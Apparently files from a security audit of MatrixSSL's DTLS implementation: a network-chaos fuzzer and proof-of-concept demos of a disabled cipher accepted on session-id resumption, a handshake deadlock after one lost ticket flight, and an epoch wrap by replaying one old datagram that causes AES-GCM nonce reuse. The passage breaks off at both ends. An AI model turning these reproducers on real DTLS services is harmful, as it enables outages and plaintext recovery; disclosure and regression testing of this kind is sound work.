        "matrixSslSetCipherSuiteEnabledStatus(ssl, WEAK, PS_FALSE) --\n");
    c = connectOnce(fresh, 0, 1, both, 2, &resumed);
    printf("3. control, no resumption, client offers {WEAK,STRONG}: cipher=0x%04x resumed=%d (WEAK is refused)\n", c, resumed);
    c = connectOnce(tmp, 0, 1, weakOnly, 1, &resumed);
    printf("4. control, no resumption, client offers {WEAK}: %s\n", c < 0 ? "handshake refused (as it should)" : "accepted");

    c = connectOnce(sidTicket, 1, 1, both, 2, &resumed);
    printf("5. ticket of the WEAK session, client offers {WEAK,STRONG}: cipher=0x%04x resumed=%d (ticket path re-checks the suite)\n", c, resumed);

    c = connectOnce(sidId, 0, 1, both, 2, &resumed);
    printf("6. session id of the WEAK session, client offers {WEAK,STRONG}: cipher=0x%04x resumed=%d\n", c, resumed);
    if (c == WEAK && resumed)
    {
        printf("VIOLATION: session-id resumption negotiated suite 0x%04x although it is disabled for this "
            "server session (ticket resumption of the same kind of session is refused)\n", c);
        violations++;
    }

    return violations ? 1 : 0;
}
