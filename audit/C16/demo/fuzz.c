/* Delivery-schedule fuzzer (discovery tool, not a deliverable demo). */
#include "common.h"

static unsigned int g_seed;
static int rnd(int n) { return (int) (rand_r(&g_seed) % (unsigned) n); }

static int pend[MAXDG], npend;

static void push_new(int *ids, int n)
{
    int i;
    for (i = 0; i < n; i++) pend[npend++] = ids[i];
}
static int g_mask1;
static void flush_ep(ep_t *e)
{
    if (g_mask1 && e->isServer && e->ssl->hsState == SSL_HS_FINISHED && !(e->ssl->flags & SSL_FLAGS_RESUMED) && e->ssl->outlen == 0) return;
    int ids[256], n;
    n = ep_flush(e, ids, 256);
    push_new(ids, n);
}

int main(int argc, char **argv)
{
    ep_t C, S;
    uint16_t suite = 0x002F;
    uint32 ver = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    int pmtu = 1400, cauth = 0, resume = 0, steps = 60, seed = 1, i, round;
    int chaos = 1, ticket = 0;
    sslKeys_t *ck, *sk;
    sslSessionId_t *sid = NULL;
    int cmsg = 0, smsg = 0;
    char m[64];
    int pass, srvGotData = 0;
    uint32 cver = 0, sver = 0;

    for (i = 1; i < argc; i++)
    {
        if (!strncmp(argv[i], "seed=", 5)) seed = atoi(argv[i] + 5);
        else if (!strncmp(argv[i], "suite=", 6)) suite = strtol(argv[i] + 6, 0, 16);
        else if (!strncmp(argv[i], "ver=", 4)) ver = atoi(argv[i] + 4) == 10 ?
            (SSL_FLAGS_TLS_1_1 | SSL_FLAGS_DTLS) : (SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS);
        else if (!strncmp(argv[i], "cver=", 5)) cver = strtol(argv[i] + 5, 0, 16);
        else if (!strncmp(argv[i], "sver=", 5)) sver = strtol(argv[i] + 5, 0, 16);
        else if (!strncmp(argv[i], "pmtu=", 5)) pmtu = atoi(argv[i] + 5);
        else if (!strncmp(argv[i], "cauth=", 6)) cauth = atoi(argv[i] + 6);
        else if (!strncmp(argv[i], "resume=", 7)) resume = atoi(argv[i] + 7);
        else if (!strncmp(argv[i], "ticket=", 7)) ticket = atoi(argv[i] + 7);
        else if (!strncmp(argv[i], "steps=", 6)) steps = atoi(argv[i] + 6);
        else if (!strncmp(argv[i], "chaos=", 6)) chaos = atoi(argv[i] + 6);
        else if (!strcmp(argv[i], "-v")) g_verbose = 1;
        else if (!strncmp(argv[i], "mask1=", 6)) g_mask1 = atoi(argv[i] + 6);
    }
    g_seed = seed;
    setvbuf(stdout, NULL, _IONBF, 0);
    matrixSslOpen();
    matrixDtlsSetPmtu(pmtu);
    ck = load_keys(suite, 0);
    sk = load_keys(suite, 1);
    if (ticket) load_ticket_keys(sk);
    matrixSslNewSessionId(&sid, NULL);

    for (pass = 0; pass <= resume; pass++)
    {
    int doChaos = chaos && (pass == resume);
    npend = 0;
    g_nall = 0; srvGotData = 0;
    cmsg = smsg = 0;
    new_server(&S, sk, sver ? (sver | SSL_FLAGS_DTLS) : ver, cauth);
    new_client(&C, ck, cver ? (cver | SSL_FLAGS_DTLS) : ver, suite, sid, ticket);
    flush_ep(&C);

    for (i = 0; doChaos && i < steps; i++)
    {
        int a = rnd(100);
        ep_t *dst;
        dgram_t *d;
        int32 rc;
        if (C.fatal || S.fatal || C.alertSent || S.alertSent) break;
        if (a < 45 && npend > 0)
        {   /* deliver (possibly out of order) */
            int k = rnd(3) ? 0 : rnd(npend);
            d = &g_all[pend[k]];
            memmove(&pend[k], &pend[k + 1], (npend - k - 1) * sizeof(int));
            npend--;
        }
        else if (a < 55 && npend > 0)
        {   /* duplicate: deliver a copy, original stays in flight */
            d = &g_all[pend[rnd(npend)]];
        }
        else if (a < 70 && npend > 0)
        {   /* drop */
            int k = rnd(npend);
            memmove(&pend[k], &pend[k + 1], (npend - k - 1) * sizeof(int));
            npend--;
            continue;
        }
        else if (a < 80 && g_nall > 0)
        {   /* replay anything from history */
            d = &g_all[rnd(g_nall)];
        }
        else if (a < 90)
        {   /* timeout */
            ep_t *e = rnd(2) ? &C : &S;
            if (e->isServer && !srvGotData) continue;
            if (g_verbose) printf("timeout at %s\n", epname(e));
            flush_ep(e);
            continue;
        }
        else
        {   /* application send if complete */
            ep_t *e = rnd(2) ? &C : &S;
            if (e->hsComplete)
            {
                snprintf(m, sizeof m, "%s-msg-%d", epname(e), e->isServer ? smsg++ : cmsg++);
                if (ep_app_send(e, m) == 0) flush_ep(e);
            }
            continue;
        }
        dst = d->from ? &C : &S;
        if (dst->isServer) srvGotData = 1;
        rc = ep_deliver(dst, d);
        if (rc == MATRIXSSL_REQUEST_SEND) flush_ep(dst);
    }
    /* fair phase */
    for (round = 0; round < 40; round++)
    {
        if (C.fatal || S.fatal || C.alertSent || S.alertSent) break;
        if (C.hsComplete && S.hsComplete && npend == 0) break;
        if (npend == 0)
        {
            if (g_verbose) printf("fair timeout round %d\n", round);
            if (!C.hsComplete || (round & 1)) flush_ep(&C);
            if (srvGotData && (!S.hsComplete || !(round & 1))) flush_ep(&S);
        }
        while (npend > 0)
        {
            dgram_t *d = &g_all[pend[0]];
            ep_t *dst = d->from ? &C : &S;
            int32 rc;
            memmove(&pend[0], &pend[1], (npend - 1) * sizeof(int));
            npend--;
            if (C.fatal || S.fatal) break;
            if (C.hsComplete && S.hsComplete) { npend = 0; break; }
            if (dst->isServer) srvGotData = 1;
            rc = ep_deliver(dst, d);
            if (rc == MATRIXSSL_REQUEST_SEND) flush_ep(dst);
        }
    }
    if (C.fatal || S.fatal || C.alertSent || S.alertSent || C.alertRecvd || S.alertRecvd)
    {
        printf("VIOLATION: seed %d pass %d: fatal C=%d(%d) S=%d(%d) alertSent C=%d S=%d desc %d/%d\n",
            seed, pass, C.fatal, C.fatalRc, S.fatal, S.fatalRc, C.alertSent, S.alertSent, C.alertDesc, S.alertDesc);
        return 1;
    }
    if (!C.hsComplete || !S.hsComplete)
    {
        printf("VIOLATION: seed %d pass %d: handshake not complete C=%d S=%d (states %d %d)\n",
            seed, pass, C.hsComplete, S.hsComplete, C.ssl->hsState, S.ssl->hsState);
        return 1;
    }
    /* duplicates in chaos phase? */
    {
        int j;
        for (j = 0; j < cmsg; j++) { snprintf(m, sizeof m, "client-msg-%d", j);
            if (ep_count_app(&S, m) > 1) { printf("VIOLATION: seed %d: %s delivered %d times\n", seed, m, ep_count_app(&S, m)); return 1; } }
        for (j = 0; j < smsg; j++) { snprintf(m, sizeof m, "server-msg-%d", j);
            if (ep_count_app(&C, m) > 1) { printf("VIOLATION: seed %d: %s delivered %d times\n", seed, m, ep_count_app(&C, m)); return 1; } }
    }
    /* final exchange + full-history replay */
    {
        int rep;
        for (rep = 0; rep < 3; rep++)
        {
            int ids[16], n, j, before;
            ep_t *snd = (rep & 1) ? &S : &C, *rcv = (rep & 1) ? &C : &S;
            snprintf(m, sizeof m, "final-%s-%d", epname(snd), rep);
            if (ep_app_send(snd, m) < 0) { printf("VIOLATION: seed %d: cannot encode app data\n", seed); return 1; }
            n = ep_flush(snd, ids, 16);
            for (j = 0; j < n; j++) { int32 rc = ep_deliver(rcv, &g_all[ids[j]]); if (rc == MATRIXSSL_REQUEST_SEND) flush_ep(rcv); }
            npend = 0;
            if (ep_count_app(rcv, m) != 1)
            {
                printf("VIOLATION: seed %d pass %d: after completion '%s' delivered %d times (fatal %d/%d alert %d/%d)\n", seed, pass, m, ep_count_app(rcv, m), C.fatal, S.fatal, C.alertSent, S.alertSent);
                return 1;
            }
            /* replay whole history, shuffled start */
            before = g_nall;
            for (j = 0; j < before; j++)
            {
                dgram_t *d = &g_all[(j + rep * 7) % before];
                ep_t *dst = d->from ? &C : &S;
                int na = dst->napp;
                int32 rc = ep_deliver(dst, d);
                if (dst->napp != na && ep_count_app(dst, (memcpy(m, dst->app[na], dst->appLen[na]), m[dst->appLen[na]] = 0, m)) > 1)
                {
                    printf("VIOLATION: seed %d pass %d: replay of dgram #%d delivered app data again: %.*s\n", seed, pass, d->id, dst->appLen[na], dst->app[na]);
                    return 1;
                }
                if (dst->fatal || dst->alertSent)
                {
                    printf("VIOLATION: seed %d pass %d: replay of dgram #%d (type %d epoch %d) killed %s rc %d alert %d\n", seed, pass, d->id, d->data[0], d->data[4], epname(dst), dst->fatalRc, dst->alertDesc);
                    return 1;
                }
                if (rc == MATRIXSSL_REQUEST_SEND) flush_ep(dst);
                /* whatever was produced is dropped */
                npend = 0;
            }
        }
    }
    matrixSslDeleteSession(C.ssl);
    matrixSslDeleteSession(S.ssl);
    }
    printf("ok seed %d ndgrams %d\n", seed, g_nall);
    return 0;
}
