/* C16 demo 4: replayed old-epoch handshake records regress the epoch state
   of an established session.

   Every old-epoch record that reaches a peer whose handshake is complete but
   which has not yet RECEIVED application data (ssl->appDataExch == 0: an
   idle session, or the sending side of a one-way protocol) makes
   matrixSslReceivedData return MATRIXSSL_REQUEST_SEND and the following
   matrixDtlsGetOutdata() re-send ChangeCipherSpec+Finished under a NEW write
   epoch (dtlsResendFlight / incrTwoByte).  incrTwoByte() keeps the "largest
   epoch" as a byte-wise maximum, so the epoch goes 1,2,...,255,256,512,768,
   ...,65280 and then wraps to 0 after only 510 replays.  The keys are never
   changed.  After the wrap
     (1) the peer (expectedEpoch 65280) discards everything the victim sends:
         the two sides can no longer exchange data, and
     (2) the victim re-uses (epoch, sequence number) pairs with the same key.
         With AES-GCM the nonce is salt||epoch||seq (cipherSuite.c), so this
         is nonce re-use: the XOR of two ciphertexts equals the XOR of the
         two plaintexts.

   The network never forges anything: it only re-delivers ONE datagram the
   peer really sent during the handshake, again and again.

   Scenario 0: victim = client (one-way protocol client -> server), replayed
               datagram = the server's ServerHello flight.
   Scenario 1: victim = server (one-way protocol server -> client), replayed
               datagram = the client's ClientKeyExchange/CCS/Finished flight.
               (The server is the side whose flight is the last one of a
               full handshake: it has to answer a client that retransmits,
               so this reaction cannot simply be switched off.) */
#include "common.h"
#include <unistd.h>
#include <sys/wait.h>

#define MAXREPLAY 70000

static int scenario(int victimIsServer)
{
    ep_t C, S, *V, *P;
    sslKeys_t *ck, *sk;
    sslSessionId_t *sid;
    uint16_t suite = 0x009C; /* TLS_RSA_WITH_AES_128_GCM_SHA256 */
    uint32 ver = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    int ids[64], n, i, rounds, replays = 0, old = -1, bad = 0, resends = 0;
    const char *m1 = "first  secret: attack at dawn!!";
    const char *m2 = "second secret: retreat at dusk.";
    const char *m3 = "third  secret: the key is 1234.";
    dgram_t *d2, *d3;
    int epoch, prevEpoch, wrappedAt = -1;

    matrixSslOpen();
    matrixDtlsSetPmtu(1400);
    ck = load_keys(suite, 0);
    sk = load_keys(suite, 1);
    matrixSslNewSessionId(&sid, NULL);
    new_server(&S, sk, ver, 0);
    new_client(&C, ck, ver, suite, sid, 0);
    V = victimIsServer ? &S : &C;
    P = victimIsServer ? &C : &S;

    /* loss-free handshake */
    n = ep_flush(&C, ids, 64);
    for (i = 0; i < n; i++)
    {
        g_q[g_qn++] = ids[i];
    }
    rounds = fair_run(&C, &S, 5, 1000);
    if (rounds < 0)
    {
        printf("handshake failed\n");
        return 2;
    }
    /* the old (epoch 0) datagram of the peer that will be replayed */
    for (i = 0; i < g_nall; i++)
    {
        if (g_all[i].from == !victimIsServer && g_all[i].data[0] == 22 &&
            g_all[i].data[13] == (victimIsServer ?
                SSL_HS_CLIENT_KEY_EXCHANGE : SSL_HS_SERVER_HELLO))
        {
            old = i;
        }
    }
    printf("handshake complete; datagram #%d is the %s's %s flight "
        "(epoch 0)\n", old, epname(P),
        victimIsServer ? "ClientKeyExchange" : "ServerHello");

    /* one-way protocol: only the victim sends application data */
    ep_app_send(V, m1);
    n = ep_flush(V, ids, 64);
    ep_deliver(P, &g_all[ids[0]]);
    printf("%s -> %s record 1:\n", epname(V), epname(P));
    dump_dgram("  ", &g_all[ids[0]]);
    printf("  delivered to the %s application %d time(s)\n", epname(P),
        ep_count_app(P, m1));

    /* the network re-delivers the old datagram to the victim */
    prevEpoch = (V->ssl->epoch[0] << 8) | V->ssl->epoch[1];
    for (replays = 1; replays <= MAXREPLAY; replays++)
    {
        int32 rc = ep_deliver(V, &g_all[old]);
        if (rc == MATRIXSSL_REQUEST_SEND)
        {
            n = ep_flush(V, ids, 64);     /* victim re-sends CCS+Finished? */
            if (n > 0)
            {
                resends++;
            }
            for (i = 0; i < n; i++)
            {
                ep_deliver(P, &g_all[ids[i]]);
                /* keep the history small: these are not needed again */
                free(g_all[ids[i]].data);
                g_all[ids[i]].data = NULL;
            }
            g_nall -= n;
        }
        epoch = (V->ssl->epoch[0] << 8) | V->ssl->epoch[1];
        if (replays == 1 || replays == 255 || replays == 256 ||
            replays == 509 || replays == 510 || replays == 65534 ||
            replays == 65535 || replays == MAXREPLAY)
        {
            printf("  after %5d replays: %s write epoch = %d (%d re-sent "
                "flights)\n", replays, epname(V), epoch, resends);
        }
        if (ep_dead(&C) || ep_dead(&S))
        {
            printf("VIOLATION: a side died after %d replays (client fatal "
                "%d/%d, server fatal %d/%d)\n", replays, C.fatal, C.fatalRc,
                S.fatal, S.fatalRc);
            return 1;
        }
        if (epoch < prevEpoch)
        {
            wrappedAt = replays;
            break;
        }
        prevEpoch = epoch;
    }
    epoch = (V->ssl->epoch[0] << 8) | V->ssl->epoch[1];
    if (wrappedAt > 0)
    {
        printf("after %d replays of ONE old datagram the %s write epoch went "
            "BACK to %d; the %s expects epoch %d\n", wrappedAt, epname(V),
            epoch, epname(P),
            (P->ssl->expectedEpoch[0] << 8) | P->ssl->expectedEpoch[1]);
    }
    else
    {
        printf("%d replays: the write epoch never went back (now %d), %d "
            "flights were re-sent\n", MAXREPLAY, epoch, resends);
    }

    /* (1) does data still flow? */
    ep_app_send(V, m2);
    n = ep_flush(V, ids, 64);
    d2 = &g_all[ids[0]];
    printf("%s -> %s record 2 (\"%s\"):\n", epname(V), epname(P), m2);
    dump_dgram("  ", d2);
    ep_deliver(P, d2);
    printf("  delivered to the %s application %d time(s)\n", epname(P),
        ep_count_app(P, m2));
    if (ep_count_app(P, m2) != 1)
    {
        printf("VIOLATION: replayed handshake datagrams wrapped the %s's "
            "write epoch after %d replays; the established session no "
            "longer delivers application data\n", epname(V), wrappedAt);
        bad = 1;
    }

    /* (2) one more replay of the same old datagram, then the next record */
    if (ep_deliver(V, &g_all[old]) == MATRIXSSL_REQUEST_SEND)
    {
        n = ep_flush(V, ids, 64);
        printf("one more replay; %s re-sends %d datagram(s)\n", epname(V), n);
        for (i = 0; i < n; i++)
        {
            dump_dgram("  ", &g_all[ids[i]]);
        }
    }
    ep_app_send(V, m3);
    n = ep_flush(V, ids, 64);
    d3 = &g_all[ids[0]];
    printf("%s -> %s record 3 (\"%s\"):\n", epname(V), epname(P), m3);
    dump_dgram("  ", d3);
    if (d2->len == d3->len && memcmp(d2->data + 3, d3->data + 3, 8) == 0 &&
        memcmp(d2->data + 13, d3->data + 13, 8) == 0)
    {
        int len = (int) strlen(m2), same = 1;
        printf("  records 2 and 3 both carry epoch/sequence ");
        for (i = 3; i < 11; i++)
        {
            printf("%02x", d2->data[i]);
        }
        printf(" and explicit GCM nonce ");
        for (i = 13; i < 21; i++)
        {
            printf("%02x", d2->data[i]);
        }
        for (i = 0; i < len; i++)
        {
            unsigned char cx = d2->data[21 + i] ^ d3->data[21 + i];
            unsigned char px = (unsigned char) m2[i] ^ (unsigned char) m3[i];
            if (cx != px)
            {
                same = 0;
            }
        }
        printf("\n  ct2^ct3 vs pt2^pt3: %s\n",
            same ? "IDENTICAL for all bytes" : "differ");
        printf("VIOLATION: after the epoch wrap the %s encrypted two "
            "different plaintexts under the same AES-GCM key and the same "
            "nonce (same epoch and sequence number)%s\n", epname(V),
            same ? ": keystream re-use (ct2^ct3 == pt2^pt3)" : "");
        bad = 1;
    }
    if (!bad)
    {
        ep_deliver(P, d3);
        if (ep_count_app(P, m3) != 1)
        {
            printf("VIOLATION: record 3 not delivered\n");
            return 1;
        }
        printf("OK: victim=%s: %d replays, write epoch never wrapped (now "
            "%d), records 2 and 3 use different (epoch,seq) and were each "
            "delivered once\n", epname(V), MAXREPLAY,
            (V->ssl->epoch[0] << 8) | V->ssl->epoch[1]);
    }
    return bad;
}

int main(int argc, char **argv)
{
    int bad = 0, st, k;

    if (argc > 1 && !strcmp(argv[1], "-v"))
    {
        g_verbose = 1;
    }
    setvbuf(stdout, NULL, _IONBF, 0);
    for (k = 0; k < 2; k++)
    {
        pid_t pid;
        printf("\n===== scenario %d: the victim of the replays is the %s "
            "=====\n", k, k ? "server" : "client");
        pid = fork();
        if (pid == 0)
        {
            _exit(scenario(k));
        }
        waitpid(pid, &st, 0);
        if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
        {
            bad = 1;
        }
    }
    return bad;
}
