/* C16 demo 4: replayed old-epoch handshake records regress the epoch state
   of an established session.

   Every old-epoch record that reaches a peer whose handshake is complete but
   which has not yet RECEIVED application data (ssl->appDataExch == 0: an
   idle session, or the sending side of a one-way protocol) makes
   matrixSslReceivedData return MATRIXSSL_REQUEST_SEND and the following
   matrixDtlsGetOutdata() re-send ChangeCipherSpec+Finished under a NEW write
   epoch (dtlsResendFlight / incrTwoByte).  incrTwoByte() keeps the "largest
   epoch" as a byte-wise maximum, so the epoch goes 1,2,...,255,256,512,768,
   ...,65280 and then wraps to 0 after only 510 replays.  The keys are never
   changed.  After the wrap
     (1) the peer (expectedEpoch 65280) discards everything the victim sends:
         the two sides can no longer exchange data, and
     (2) the victim re-uses (epoch, sequence number) pairs it already used
         with the same key.  With AES-GCM the nonce is salt||epoch||seq
         (cipherSuite.c), so this is nonce re-use: the XOR of two
         ciphertexts equals the XOR of the two plaintexts.

   The network never forges anything: it only re-delivers ONE datagram the
   server really sent (its ServerHello flight) again and again. */
#include "common.h"

int main(int argc, char **argv)
{
    ep_t C, S;
    sslKeys_t *ck, *sk;
    sslSessionId_t *sid;
    uint16_t suite = 0x009C; /* TLS_RSA_WITH_AES_128_GCM_SHA256 */
    uint32 ver = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    int ids[64], n, i, rounds, replays = 0, oldFlight = -1, bad = 0;
    const char *m1 = "first  secret: attack at dawn!!";
    const char *m2 = "second secret: retreat at dusk.";
    const char *m3 = "third  secret: the key is 1234.";
    dgram_t *d1, *d2;
    int epoch;

    if (argc > 1 && !strcmp(argv[1], "-v"))
    {
        g_verbose = 1;
    }
    setvbuf(stdout, NULL, _IONBF, 0);
    matrixSslOpen();
    matrixDtlsSetPmtu(1400);
    ck = load_keys(suite, 0);
    sk = load_keys(suite, 1);
    matrixSslNewSessionId(&sid, NULL);
    new_server(&S, sk, ver, 0);
    new_client(&C, ck, ver, suite, sid, 0);

    /* loss-free handshake */
    n = ep_flush(&C, ids, 64);
    for (i = 0; i < n; i++)
    {
        g_q[g_qn++] = ids[i];
    }
    rounds = fair_run(&C, &S, 5, 1000);
    if (rounds < 0)
    {
        printf("handshake failed\n");
        return 2;
    }
    /* find the server's ServerHello flight among the datagrams sent */
    for (i = 0; i < g_nall; i++)
    {
        if (g_all[i].from == 1 && g_all[i].data[0] == 22 &&
            g_all[i].data[13] == SSL_HS_SERVER_HELLO)
        {
            oldFlight = i;
        }
    }
    printf("handshake complete; datagram #%d is the server's ServerHello "
        "flight (epoch 0)\n", oldFlight);

    /* one-way protocol: only the client sends application data */
    ep_app_send(&C, m1);
    n = ep_flush(&C, ids, 64);
    d1 = &g_all[ids[0]];
    ep_deliver(&S, d1);
    printf("client -> server record 1:\n");
    dump_dgram("  ", d1);
    printf("  delivered to the server application %d time(s)\n",
        ep_count_app(&S, m1));

    /* the network re-delivers the old ServerHello flight to the client */
    for (;; )
    {
        int32 rc = ep_deliver(&C, &g_all[oldFlight]);
        replays++;
        if (rc == MATRIXSSL_REQUEST_SEND)
        {
            n = ep_flush(&C, ids, 64);       /* client re-sends CCS+Finished */
            for (i = 0; i < n; i++)
            {
                ep_deliver(&S, &g_all[ids[i]]);
            }
        }
        epoch = (C.ssl->epoch[0] << 8) | C.ssl->epoch[1];
        if (replays == 1 || replays == 254 || replays == 255 ||
            replays == 256 || replays == 509)
        {
            printf("  after %3d replays: client write epoch = %d\n", replays,
                epoch);
        }
        if (ep_dead(&C) || ep_dead(&S))
        {
            printf("a side died?\n");
            return 2;
        }
        if (epoch == 0 || replays > 70000)
        {
            break;
        }
    }
    printf("after %d replays of ONE old datagram: client write epoch = %d, "
        "server expects epoch %d\n", replays, epoch,
        (S.ssl->expectedEpoch[0] << 8) | S.ssl->expectedEpoch[1]);

    /* (1) data no longer flows */
    ep_app_send(&C, m2);
    n = ep_flush(&C, ids, 64);
    d1 = &g_all[ids[0]];
    printf("client -> server record 2 (\"%s\"):\n", m2);
    dump_dgram("  ", d1);
    ep_deliver(&S, d1);
    printf("  delivered to the server application %d time(s)\n",
        ep_count_app(&S, m2));
    if (epoch == 0 && ep_count_app(&S, m2) == 0)
    {
        printf("VIOLATION: replayed handshake datagrams wrapped the client's "
            "write epoch to 0 after %d replays; the established session no "
            "longer delivers application data\n", replays);
        bad = 1;
    }

    /* (2) one more replay of the same old datagram, then the next record */
    if (ep_deliver(&C, &g_all[oldFlight]) == MATRIXSSL_REQUEST_SEND)
    {
        n = ep_flush(&C, ids, 64);
        printf("one more replay; client re-sends:\n");
        for (i = 0; i < n; i++)
        {
            dump_dgram("  ", &g_all[ids[i]]);
        }
    }
    ep_app_send(&C, m3);
    n = ep_flush(&C, ids, 64);
    d2 = &g_all[ids[0]];
    printf("client -> server record 3 (\"%s\"):\n", m3);
    dump_dgram("  ", d2);
    if (d1->len == d2->len && memcmp(d1->data + 3, d2->data + 3, 8) == 0 &&
        memcmp(d1->data + 13, d2->data + 13, 8) == 0)
    {
        int len = (int) strlen(m2), same = 1;
        printf("  records 2 and 3 both carry epoch/sequence ");
        for (i = 3; i < 11; i++)
        {
            printf("%02x", d1->data[i]);
        }
        printf(" and explicit GCM nonce ");
        for (i = 13; i < 21; i++)
        {
            printf("%02x", d1->data[i]);
        }
        printf("\n  ct2^ct3 vs pt2^pt3: ");
        for (i = 0; i < len; i++)
        {
            unsigned char cx = d1->data[21 + i] ^ d2->data[21 + i];
            unsigned char px = (unsigned char) m2[i] ^ (unsigned char) m3[i];
            if (cx != px)
            {
                same = 0;
            }
        }
        printf("%s\n", same ? "IDENTICAL for all bytes" : "differ");
        if (same)
        {
            printf("VIOLATION: after the epoch wrap the client encrypted two "
                "different plaintexts under the same AES-GCM key and the same "
                "nonce (same epoch and sequence number): keystream re-use "
                "(ct2^ct3 == pt2^pt3)\n");
            bad = 1;
        }
    }
    return bad;
}
