/* C16 demo 3: DTLS + RFC 5077 session tickets.  In a full handshake in
   which the server issues a ticket its last flight is
   [NewSessionTicket, ChangeCipherSpec, Finished].  When that flight is
   retransmitted (dtlsResendFlight -> sslEncodeResponse, case SSL_HS_DONE)
   the NewSessionTicket is left out, because writeNewSessionTicket() already
   moved ssl->sid->sessionTicketState away from SESS_TICKET_STATE_RECVD_EXT
   on the first transmission.  The client was promised a ticket in the
   ServerHello, so it treats every ChangeCipherSpec without a preceding
   NewSessionTicket as "overtook the NewSessionTicket" and ignores it, and
   ignores the Finished that follows ("Finished without CCS").

   Result: ONE lost datagram (the server's last flight) and the handshake can
   never complete, however often both sides retransmit on a perfect network. */
#include "common.h"

int main(int argc, char **argv)
{
    ep_t C, S;
    sslKeys_t *ck, *sk;
    sslSessionId_t *sid;
    uint16_t suite = 0x002F; /* TLS_RSA_WITH_AES_128_CBC_SHA */
    uint32 ver = SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS;
    int ids[64], n, i, rounds, nresent = 0;

    if (argc > 1 && !strcmp(argv[1], "-v"))
    {
        g_verbose = 1;
    }
    setvbuf(stdout, NULL, _IONBF, 0);
    matrixSslOpen();
    matrixDtlsSetPmtu(1400);
    ck = load_keys(suite, 0);
    sk = load_keys(suite, 1);
    load_ticket_keys(sk);                 /* server can issue tickets      */
    matrixSslNewSessionId(&sid, NULL);
    new_server(&S, sk, ver, 0);
    new_client(&C, ck, ver, suite, sid, 1 /* client asks for a ticket */);

    /* loss-free, in-order exchange until the server emits its last flight */
    n = ep_flush(&C, ids, 64);
    for (;; )
    {
        int from = g_all[ids[0]].from, out[64];
        ep_t *dst = from ? &C : &S;
        int32 rc = 0;
        for (i = 0; i < n; i++)
        {
            rc = ep_deliver(dst, &g_all[ids[i]]);
        }
        if (rc != MATRIXSSL_REQUEST_SEND)
        {
            printf("unexpected rc %d in prefix\n", rc);
            return 2;
        }
        n = ep_flush(dst, out, 64);
        memcpy(ids, out, n * sizeof(int));
        if (dst == &S && S.ssl->hsState == SSL_HS_DONE)
        {
            break;
        }
    }
    printf("server's last flight (%d datagram):\n", n);
    for (i = 0; i < n; i++)
    {
        dump_dgram("  ", &g_all[ids[i]]);
    }
    printf("  (hsType=4 is NewSessionTicket)  -> this datagram is LOST\n");
    printf("client: hsState=%d (SSL_HS_FINISHED=%d), ticket state=%d "
        "(SESS_TICKET_STATE_RECVD_EXT=%d)\n", C.ssl->hsState, SSL_HS_FINISHED,
        C.ssl->sid->sessionTicketState, SESS_TICKET_STATE_RECVD_EXT);

    /* the flight is lost; the server's retransmission timer fires */
    n = ep_flush(&S, ids, 64);
    printf("server timeout retransmits %d datagram(s):\n", n);
    for (i = 0; i < n; i++)
    {
        dump_dgram("  ", &g_all[ids[i]]);
        g_q[g_qn++] = ids[i];
        nresent++;
    }
    if (n > 0 && g_all[ids[0]].data[0] == 22 && g_all[ids[0]].data[13] == 4)
    {
        printf("  -> the retransmission carries the NewSessionTicket again\n");
    }
    else
    {
        printf("  -> no NewSessionTicket in the retransmission\n");
    }

    /* perfect network from now on, both timers running */
    S.hsComplete = 0; /* keep the server's timer running in fair_run */
    rounds = fair_run(&C, &S, 15, 5000);
    printf("after 15 timeout rounds on a perfect network: rounds=%d, "
        "client complete=%d (hsState=%d), server hsState=%d, "
        "%d datagrams exchanged, client dead=%d server dead=%d\n",
        rounds, C.hsComplete, C.ssl->hsState, S.ssl->hsState, g_nall,
        ep_dead(&C), ep_dead(&S));
    if (!C.hsComplete)
    {
        printf("VIOLATION: one lost datagram (server's NewSessionTicket/CCS/"
            "Finished flight): every retransmission omits NewSessionTicket, "
            "the client discards CCS and Finished, handshake never "
            "completes\n");
        return 1;
    }
    if (!exchange_check(&C, &S, "demo3"))
    {
        printf("VIOLATION: handshake completed but data does not flow\n");
        return 1;
    }
    printf("OK: handshake completed after the lost flight was retransmitted "
        "(client got a ticket of %d bytes), data flows\n",
        (int) C.ssl->sid->sessionTicketLen);
    /* control: the ticket that arrived in the retransmitted flight resumes */
    matrixSslDeleteSession(C.ssl);
    matrixSslDeleteSession(S.ssl);
    new_server(&S, sk, ver, 0);
    new_client(&C, ck, ver, suite, sid, 1);
    g_qn = 0;
    n = ep_flush(&C, ids, 64);
    for (i = 0; i < n; i++)
    {
        g_q[g_qn++] = ids[i];
    }
    rounds = fair_run(&C, &S, 5, 1000);
    if (rounds < 0 || !(S.ssl->flags & SSL_FLAGS_RESUMED) ||
        !exchange_check(&C, &S, "demo3-resumed"))
    {
        printf("VIOLATION: second connection with that ticket: rounds=%d "
            "resumed=%d\n", rounds, !!(S.ssl->flags & SSL_FLAGS_RESUMED));
        return 1;
    }
    printf("OK: a second connection resumed with that ticket, data flows\n");
    return 0;
}
