/* Control cases for the repair of finding 4: a lost LAST flight must stay
   recoverable in a full and in a resumed handshake, and two idle completed
   peers must not bounce CCS/Finished flights forever after one duplicate. */
#include "common.h"

static int lose_last_flight(ep_t *C, ep_t *S, ep_t *owner, const char *what)
{
    int ids[64], n, i, rounds;

    n = ep_flush(C, ids, 64);
    for (;; )
    {
        int from = g_all[ids[0]].from, out[64];
        ep_t *dst = from ? C : S;
        int32 rc = 0;
        for (i = 0; i < n; i++)
        {
            rc = ep_deliver(dst, &g_all[ids[i]]);
        }
        if (rc != MATRIXSSL_REQUEST_SEND)
        {
            printf("unexpected rc %d\n", rc);
            return 1;
        }
        n = ep_flush(dst, out, 64);
        memcpy(ids, out, n * sizeof(int));
        if (dst == owner && owner->ssl->hsState == SSL_HS_DONE)
        {
            break;      /* ids[] = the last flight of the handshake */
        }
    }
    printf("%s: last flight (%d datagram, from the %s) is LOST\n", what, n,
        epname(owner));
    owner->hsComplete = 0;  /* keep both timers running in fair_run */
    g_qn = 0;
    rounds = fair_run(C, S, 10, 2000);
    if (rounds < 0 || !C->hsComplete || !exchange_check(C, S, what))
    {
        printf("VIOLATION: %s: not recovered (rounds=%d)\n", what, rounds);
        return 1;
    }
    printf("OK: %s: recovered after %d timeout round(s), data flows\n", what,
        rounds);
    return 0;
}

int main(void)
{
